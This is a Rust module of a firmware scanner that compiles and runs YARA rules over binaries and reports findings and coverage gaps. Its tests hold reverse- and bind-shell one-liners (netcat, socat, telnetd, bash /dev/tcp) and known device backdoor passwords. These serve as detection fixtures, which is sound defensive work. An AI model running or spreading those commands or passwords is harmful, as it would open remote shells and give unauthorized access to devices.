//! YARA rules: byte and string patterns in binaries and files, run with
//! yara-x.
//!
//! Rules are data. `.yar` files under `checks/` are embedded like the TOML
//! rules; each YARA rule names the fwcert rule it feeds with `meta: id`, and
//! that rule's TOML (with `engine = "yara"`) holds its documentation,
//! severity, controls and fixtures. A lab's own files (`scan --yara`) are
//! loaded as `custom/<name>` and reported under [`CUSTOM_RULE`], with the
//! severity and controls their `meta` declares.
//!
//! All sources are compiled once per rule set, each file in its own
//! namespace, so a compile error names its file and two files may use the
//! same rule names. Every file the content checks look at is scanned once
//! with all rules, under a per-file size cap and a time budget; a file not
//! scanned (too large, timed out, scan error) is a coverage gap of every
//! family the YARA rules feed, never silence.
//!
//! The regular-expression `[[pattern]]` engine (`checks::patterns`) stays
//! for configuration entries and line-oriented text, where it already works.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use yara_x::{Compiler, MetaValue, ScanError, Scanner, SourceCode};

use super::rule::{Engine, Rule, Severity};
use super::{CheckOptions, ControlFamilies, CustomMatch, Finding, SECRET_SLOT, Secret};
use crate::hash::fingerprint_of;
use crate::inventory::text::is_text;
use crate::inventory::{Inventory, scanned_by_content};
use crate::rules;

/// The rule a lab's own YARA rules are reported under.
pub const CUSTOM_RULE: &str = rules::FW_YARA_000;
/// The check family of [`CUSTOM_RULE`].
pub const CUSTOM_FAMILY: &str = "yara";
/// Rule-set paths of a lab's files start with this (never used under
/// `checks/`).
pub const CUSTOM_PREFIX: &str = "custom/";
/// Matches kept per pattern and file: enough to report every distinct
/// string a rule is about, bounded for a pattern that matches everywhere.
const MAX_MATCHES_PER_PATTERN: usize = 256;
/// Characters of matched text quoted in evidence.
const MAX_QUOTE: usize = 120;
/// `meta` keys an embedded rule may carry; anything else is a typo.
const EMBEDDED_META: &[&str] = &["id", "evidence", "secret", "description", "reference"];

/// Whether a rule-set path is a YARA source.
pub fn is_source(path: &str) -> bool {
    path.ends_with(".yar") || path.ends_with(".yara")
}

/// What one compiled YARA rule reports.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Target {
    /// The fwcert rule it feeds.
    rule: String,
    family: String,
    /// The match (less non-printable bytes at its ends) is a password or
    /// token: evidence shows the secret slot, the report the value.
    secret: bool,
    /// Evidence template: `{rule}` and `{match}` are filled in.
    evidence: String,
    custom: Option<CustomMatch>,
}

/// Every YARA source of a rule set, compiled.
#[derive(Clone, Default)]
pub struct Compiled {
    rules: Option<Arc<yara_x::Rules>>,
    /// (namespace, rule identifier) → what it reports.
    targets: BTreeMap<(String, String), Target>,
    /// The families whose verdicts depend on a YARA scan: those of the
    /// rules fed, and for a lab's rules [`CUSTOM_FAMILY`] plus the families
    /// of the controls they declare.
    families: BTreeSet<String>,
}

impl std::fmt::Debug for Compiled {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("yara::Compiled")
            .field("rules", &self.targets.keys().collect::<Vec<_>>())
            .finish()
    }
}

impl Compiled {
    /// Whether any rule came from a lab's file.
    pub fn has_custom(&self) -> bool {
        self.targets.values().any(|t| t.custom.is_some())
    }

    /// The fwcert rules the YARA rules feed.
    pub fn fed_rules(&self) -> BTreeSet<&str> {
        self.targets.values().map(|t| t.rule.as_str()).collect()
    }
}

fn meta_str(v: &MetaValue) -> Option<String> {
    match v {
        MetaValue::String(s) => Some(s.to_string()),
        _ => None,
    }
}

/// Compile `sources` (rule-set path, text). Errors name the file.
pub fn compile(
    sources: &[(&str, &str)],
    rules: &BTreeMap<String, Rule>,
    controls: &ControlFamilies,
) -> Result<Compiled, (String, String)> {
    if sources.is_empty() {
        return check_fed(Compiled::default(), rules);
    }
    let mut compiler = Compiler::new();
    compiler.colorize_errors(false).enable_includes(false);
    for (path, text) in sources {
        compiler.new_namespace(path);
        let warnings = compiler.warnings().len();
        if let Err(e) = compiler.add_source(SourceCode::from(*text).with_origin(*path)) {
            return Err((path.to_string(), e.to_string()));
        }
        // fwcert's own rules compile without warnings (slow patterns,
        // always-true conditions); a lab's rules may have them.
        if !path.starts_with(CUSTOM_PREFIX)
            && let Some(w) = compiler.warnings().get(warnings)
        {
            return Err((path.to_string(), w.to_string()));
        }
    }
    let built = compiler.build();
    let mut targets = BTreeMap::new();
    for r in built.iter().filter(|r| !r.is_private()) {
        let ns = r.namespace().to_string();
        let ident = r.identifier().to_string();
        let meta: BTreeMap<String, MetaValue> = r.metadata().map(|(k, v)| (k.to_string(), v)).collect();
        let err = |m: String| (ns.clone(), format!("YARA rule `{ident}`: {m}"));
        let secret = matches!(meta.get("secret"), Some(MetaValue::Bool(true)));
        let target = if ns.starts_with(CUSTOM_PREFIX) {
            custom_target(&ns, &ident, &meta, secret, controls).map_err(err)?
        } else {
            if let Some(k) = meta.keys().find(|k| !EMBEDDED_META.contains(&k.as_str())) {
                return Err(err(format!(
                    "unknown meta `{k}` (allowed: {})",
                    EMBEDDED_META.join(", ")
                )));
            }
            let Some(id) = meta.get("id").and_then(meta_str) else {
                return Err(err("needs `meta: id` naming the rule under checks/ it feeds".into()));
            };
            let Some(fw) = rules.get(&id) else {
                return Err(err(format!("meta id {id} names no rule under checks/")));
            };
            if id == CUSTOM_RULE {
                return Err(err(format!("{CUSTOM_RULE} is for a lab's rules (`scan --yara`)")));
            }
            if fw.engine != Engine::Yara {
                return Err(err(format!("rule {id} does not declare `engine = \"yara\"`")));
            }
            Target {
                rule: id,
                family: fw.family.clone(),
                secret,
                evidence: meta
                    .get("evidence")
                    .and_then(meta_str)
                    .unwrap_or_else(|| "YARA rule `{rule}` matched \"{match}\"".into()),
                custom: None,
            }
        };
        targets.insert((ns, ident), target);
    }
    let mut families = BTreeSet::new();
    for t in targets.values() {
        families.insert(t.family.clone());
        for c in t.custom.iter().flat_map(|c| &c.controls) {
            families.extend(controls.get(c).into_iter().flatten().cloned());
        }
    }
    let out = Compiled {
        rules: Some(Arc::new(built)),
        targets,
        families,
    };
    check_fed(out, rules)
}

/// Every rule declaring the YARA engine is fed by at least one YARA rule.
fn check_fed(c: Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (String, String)> {
    let fed = c.fed_rules();
    for r in rules
        .values()
        .filter(|r| r.engine == Engine::Yara && r.id != CUSTOM_RULE)
    {
        if !fed.contains(r.id.as_str()) {
            return Err((
                format!("{}.toml", r.id),
                "declares `engine = \"yara\"`, but no YARA rule under checks/ has its id in `meta: id`".into(),
            ));
        }
    }
    Ok(c)
}

fn custom_target(
    ns: &str,
    ident: &str,
    meta: &BTreeMap<String, MetaValue>,
    secret: bool,
    known: &ControlFamilies,
) -> Result<Target, String> {
    let severity = meta
        .get("severity")
        .and_then(meta_str)
        .and_then(|s| s.trim().parse::<Severity>().ok())
        .unwrap_or(Severity::Medium);
    let mut controls = Vec::new();
    if let Some(list) = meta.get("controls").and_then(meta_str) {
        for c in list.split(',').map(str::trim).filter(|c| !c.is_empty()) {
            if !known.contains_key(c) {
                return Err(format!(
                    "meta controls names unknown control `{c}` (see checks/standards/controls.toml)"
                ));
            }
            controls.push(c.to_string());
        }
    }
    controls.sort();
    controls.dedup();
    let file = ns.strip_prefix(CUSTOM_PREFIX).unwrap_or(ns);
    Ok(Target {
        rule: CUSTOM_RULE.into(),
        family: CUSTOM_FAMILY.into(),
        secret,
        evidence: "custom YARA rule `{rule}` matched \"{match}\"".into(),
        custom: Some(CustomMatch {
            rule: format!("{file}:{ident}"),
            severity,
            controls,
        }),
    })
}

/// Read a lab's YARA rules: one file, or every `.yar`/`.yara` file under a
/// directory (recursively, sorted). Names are the file name, or the path
/// relative to the directory, so the same rules give the same digest
/// wherever they are kept.
pub fn read_custom(path: &Path) -> std::io::Result<Vec<(String, String)>> {
    let mut out = Vec::new();
    if path.is_dir() {
        let mut stack = vec![path.to_path_buf()];
        while let Some(dir) = stack.pop() {
            for e in std::fs::read_dir(&dir)? {
                let e = e?;
                let p = e.path();
                // Symbolic links to directories are not followed (no loops).
                if e.file_type()?.is_dir() {
                    stack.push(p);
                } else if is_source(&p.to_string_lossy()) {
                    let rel = p.strip_prefix(path).unwrap_or(&p).to_string_lossy().replace('\\', "/");
                    out.push((rel, std::fs::read_to_string(&p)?));
                }
            }
        }
        if out.is_empty() {
            return Err(std::io::Error::new(
                std::io::ErrorKind::NotFound,
                "no .yar or .yara files in this directory",
            ));
        }
    } else {
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().to_string())
            .unwrap_or_else(|| "rules.yar".into());
        out.push((name, std::fs::read_to_string(path)?));
    }
    out.sort();
    Ok(out)
}

/// The match as evidence text: non-printable bytes at its ends removed
/// (rules anchor strings on the NULs around them), escaped, truncated.
/// Returns the offset of the text within the match, and the text.
fn trimmed(data: &[u8]) -> (usize, &[u8]) {
    let printable = |b: &u8| (0x20..0x7f).contains(b) || *b == b'\t';
    let start = data.iter().position(printable).unwrap_or(data.len());
    let end = data.iter().rposition(printable).map_or(start, |e| e + 1);
    (start, &data[start..end.max(start)])
}

fn quote(text: &[u8]) -> String {
    let s: String = String::from_utf8_lossy(text).escape_debug().collect();
    let s = s.replace(SECRET_SLOT, "{ secret }");
    if s.chars().count() > MAX_QUOTE {
        format!("{}…", s.chars().take(MAX_QUOTE).collect::<String>())
    } else {
        s
    }
}

/// Findings of every YARA rule, and coverage gaps by family.
pub fn scan(
    inv: &Inventory,
    compiled: &Compiled,
    opts: &CheckOptions,
) -> (Vec<Finding>, BTreeMap<String, Vec<String>>) {
    let mut gaps = Vec::new();
    let mut out = Vec::new();
    let Some(rules) = &compiled.rules else {
        return (out, BTreeMap::new());
    };
    let mut scanner = Scanner::new(rules);
    scanner.max_matches_per_pattern(MAX_MATCHES_PER_PATTERN);
    let deadline = Instant::now() + opts.yara_time;
    // Files left when the budget ran out: how many, and the first.
    let mut late: (usize, Option<String>) = (0, None);
    let mut seen = BTreeSet::new();
    for (fi, f) in inv.files.iter().enumerate() {
        if !scanned_by_content(inv.unpacked, f) {
            continue;
        }
        if f.data.len() as u64 > opts.yara_max_file {
            gaps.push(format!(
                "{} in {}: {} bytes, over the YARA scan limit of {} bytes: not scanned",
                f.path,
                f.container,
                f.data.len(),
                opts.yara_max_file
            ));
            continue;
        }
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            late.0 += 1;
            late.1.get_or_insert_with(|| format!("{} in {}", f.path, f.container));
            continue;
        }
        // yara-x checks its timeout about once a second.
        scanner.set_timeout(left.max(Duration::from_secs(1)));
        let results = match scanner.scan(f.data) {
            Ok(r) => r,
            Err(ScanError::Timeout) => {
                gaps.push(format!(
                    "{} in {}: the YARA scan did not finish within the time budget ({} s)",
                    f.path,
                    f.container,
                    opts.yara_time.as_secs()
                ));
                continue;
            }
            Err(e) => {
                gaps.push(format!("{} in {}: YARA scan failed: {e}", f.path, f.container));
                continue;
            }
        };
        let matching: Vec<_> = results.matching_rules().collect();
        if matching.is_empty() {
            continue;
        }
        let text = is_text(f.data);
        let line_at =
            |off: usize| text.then(|| memchr::memchr_iter(b'\n', &f.data[..off.min(f.data.len())]).count() + 1);
        for r in matching {
            let key = (r.namespace().to_string(), r.identifier().to_string());
            let Some(t) = compiled.targets.get(&key) else {
                continue;
            };
            let name = t.custom.as_ref().map_or(key.1.as_str(), |c| c.rule.as_str());
            let mut hits: Vec<(usize, &[u8])> = r
                .patterns()
                .flat_map(|p| p.matches().collect::<Vec<_>>())
                .map(|m| {
                    let (skip, text) = trimmed(m.data());
                    (m.range().start + skip, text)
                })
                .collect();
            // A condition without strings matched the file as a whole.
            let whole = hits.is_empty();
            if whole {
                hits.push((0, &[]));
            }
            hits.sort();
            for (off, text) in hits {
                if !seen.insert((fi, key.clone(), text.to_vec())) {
                    continue;
                }
                let shown = if whole {
                    "(the whole file)".to_string()
                } else if t.secret {
                    SECRET_SLOT.to_string()
                } else {
                    quote(text)
                };
                let line = line_at(off);
                let evidence = t.evidence.replace("{rule}", name).replace("{match}", &shown);
                let offset = line.is_none().then_some(off as u64);
                out.push(Finding {
                    secret: (t.secret && !whole).then(|| Secret {
                        value: Some(String::from_utf8_lossy(text).to_string()),
                        fingerprint: fingerprint_of(text),
                    }),
                    custom: t.custom.clone(),
                    ..Finding::in_file(&t.rule, f, line, offset, evidence)
                });
            }
        }
    }
    if let (n, Some(first)) = late {
        gaps.push(format!(
            "the YARA time budget ({} s) ran out before {n} file(s) were scanned, from {first}",
            opts.yara_time.as_secs()
        ));
    }
    let mut by_family = BTreeMap::new();
    if !gaps.is_empty() {
        for fam in &compiled.families {
            by_family.insert(fam.clone(), gaps.clone());
        }
    }
    (out, by_family)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::EMBEDDED;
    use crate::rules::Rules;

    /// The embedded rule set with files replaced or added.
    fn load(extra: &[(&str, &str)]) -> crate::Result<Rules> {
        let files: Vec<(&str, &str)> = EMBEDDED
            .iter()
            .copied()
            .filter(|(p, _)| !extra.iter().any(|(q, _)| q == p))
            .chain(extra.iter().copied())
            .collect();
        Rules::from_files(&files)
    }

    fn refused(extra: &[(&str, &str)]) -> String {
        match load(extra) {
            Ok(_) => panic!("rule set accepted {extra:?}"),
            Err(e) => e.to_string(),
        }
    }

    #[test]
    fn the_loader_refuses_unpaired_and_broken_rules() {
        let e = refused(&[(
            "debug/x.yar",
            "rule x { meta: id = \"FW-DEBUG-999\" condition: filesize > 1 }",
        )]);
        assert!(
            e.contains("debug/x.yar") && e.contains("FW-DEBUG-999 names no rule"),
            "{e}"
        );
        let e = refused(&[("debug/x.yar", "rule x { condition: filesize > 1 }")]);
        assert!(e.contains("debug/x.yar") && e.contains("meta: id"), "{e}");
        // A rule without `engine = "yara"` cannot be fed.
        let e = refused(&[(
            "debug/x.yar",
            "rule x { meta: id = \"FW-DEBUG-001\" condition: filesize > 1 }",
        )]);
        assert!(e.contains("does not declare"), "{e}");
        let e = refused(&[(
            "debug/x.yar",
            "rule x { meta: id = \"FW-YARA-000\" condition: filesize > 1 }",
        )]);
        assert!(e.contains("scan --yara"), "{e}");
        let e = refused(&[(
            "debug/x.yar",
            "rule x { meta: id = \"FW-DEBUG-008\" idd = 1 condition: filesize > 1 }",
        )]);
        assert!(e.contains("unknown meta `idd`"), "{e}");
        // The TOML side: engine = "yara" with no YARA rule.
        let e = refused(&[("debug/FW-DEBUG-008.yar", "// emptied\n")]);
        assert!(e.contains("FW-DEBUG-008.toml") && e.contains("no YARA rule"), "{e}");
        // A compile error names the file and the place.
        let e = refused(&[("credentials/FW-CRED-015.yar", "rule broken { condition: $a }")]);
        assert!(e.contains("credentials/FW-CRED-015.yar"), "{e}");
        assert!(e.contains("line 1") || e.contains(":1:"), "{e}");
        // Warnings in fwcert's own rules are errors.
        let e = refused(&[("debug/x.yar", "rule x { meta: id = \"FW-DEBUG-008\" condition: true }")]);
        assert!(e.contains("debug/x.yar") && e.contains("always `true`"), "{e}");
    }

    #[test]
    fn custom_rules_carry_severity_and_controls() {
        let src = "rule hi { meta: severity = \"HIGH\" controls = \"NO-HARDCODED-SECRETS\" condition: true }\n\
                   rule odd { meta: severity = \"urgent\" author = \"lab\" id = \"FW-CRED-002\" condition: true }";
        let rs = load(&[("custom/lab.yar", src)]).unwrap();
        let t = |ident: &str| rs.checks.yara.targets[&("custom/lab.yar".to_string(), ident.to_string())].clone();
        let hi = t("hi").custom.unwrap();
        assert_eq!((hi.rule.as_str(), hi.severity), ("lab.yar:hi", Severity::High));
        assert_eq!(hi.controls, vec!["NO-HARDCODED-SECRETS".to_string()]);
        let odd = t("odd");
        assert_eq!(odd.rule, CUSTOM_RULE, "a lab's meta id never feeds fwcert's rules");
        assert_eq!(odd.custom.unwrap().severity, Severity::Medium);
        assert!(rs.checks.yara.has_custom());
        let e = refused(&[(
            "custom/lab.yar",
            "rule x { meta: controls = \"NO-SUCH\" condition: true }",
        )]);
        assert!(e.contains("custom/lab.yar") && e.contains("NO-SUCH"), "{e}");
    }

    /// Which patterns of fwcert's own YARA rules match `strings` as the
    /// data of an ELF file.
    fn patterns_matching(strings: &str) -> Vec<String> {
        let rs = Rules::embedded().unwrap();
        let rules = rs.checks.yara.rules.clone().unwrap();
        let mut scanner = Scanner::new(&rules);
        let data = [b"\x7fELF\x01\x01\x01\0".as_slice(), strings.as_bytes(), b"\0"].concat();
        let results = scanner.scan(&data).unwrap();
        let mut out: Vec<String> = results
            .matching_rules()
            .flat_map(|r| {
                r.patterns()
                    .filter(|p| p.matches().next().is_some())
                    .map(|p| p.identifier().to_string())
                    .collect::<Vec<_>>()
            })
            .collect();
        out.sort();
        out
    }

    #[test]
    fn network_shell_patterns() {
        for (s, want) in [
            ("/usr/sbin/utelnetd -p 2323 -l /bin/sh", "$telnetd"),
            ("telnetd -l/bin/ash", "$telnetd"),
            ("busybox telnetd -l sh &", "$telnetd"),
            ("ncat -lvp 4444 -e /bin/bash", "$netcat"),
            ("netcat -e sh 10.0.0.1 9", "$netcat"),
            ("socat tcp-l:2323,reuseaddr,fork exec:/bin/sh,pty", "$socat"),
            ("socat TCP-LISTEN:9 exec:'sh'", "$socat"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "$dev_tcp"),
        ] {
            assert_eq!(patterns_matching(s), vec![want.to_string()], "{s}");
        }
        for s in [
            "\t-l LOGIN\tExec LOGIN on connect",
            "telnetd -l /bin/login",
            "telnetd -l /bin/shadowd",
            "sync -e /bin/sh",
            "\t-e PROG\tRun PROG after connect",
            "sh -i",
            "/bin/sh -c reboot",
        ] {
            assert!(patterns_matching(s).is_empty(), "{s}: {:?}", patterns_matching(s));
        }
    }

    #[test]
    fn backdoor_password_patterns() {
        assert_eq!(patterns_matching("root\0klv1234"), vec!["$klv1234".to_string()]);
        assert_eq!(patterns_matching("zlxx."), vec!["$zlxx".to_string()]);
        for s in ["zlxx", "xklv123", "klv123 ", "Xc3511", "xc35110"] {
            assert!(patterns_matching(s).is_empty(), "{s}");
        }
    }

    #[test]
    fn custom_rules_change_the_digest() {
        let plain = Rules::embedded().unwrap();
        let a = Rules::with_custom_yara(&[("a.yar".into(), "rule a { condition: true }".into())]).unwrap();
        let b = Rules::with_custom_yara(&[("a.yar".into(), "rule b { condition: true }".into())]).unwrap();
        let a2 = Rules::with_custom_yara(&[("a.yar".into(), "rule a { condition: true }".into())]).unwrap();
        assert_ne!(plain.digest, a.digest);
        assert_ne!(a.digest, b.digest);
        assert_eq!(a.digest, a2.digest);
    }

    #[test]
    fn trimming_keeps_the_printable_middle() {
        assert_eq!(trimmed(b"\0xc3511\0"), (1, &b"xc3511"[..]));
        assert_eq!(trimmed(b"\x10abc"), (1, &b"abc"[..]));
        assert_eq!(trimmed(b"\0\0"), (2, &b""[..]));
        assert_eq!(trimmed(b"a b"), (0, &b"a b"[..]));
    }

    #[test]
    fn quotes_are_escaped_and_bounded() {
        assert_eq!(quote(b"a\nb"), "a\\nb");
        assert_eq!(quote(b"{secret}"), "{ secret }");
        assert!(quote(&[b'x'; 400]).chars().count() <= MAX_QUOTE + 1);
    }
}
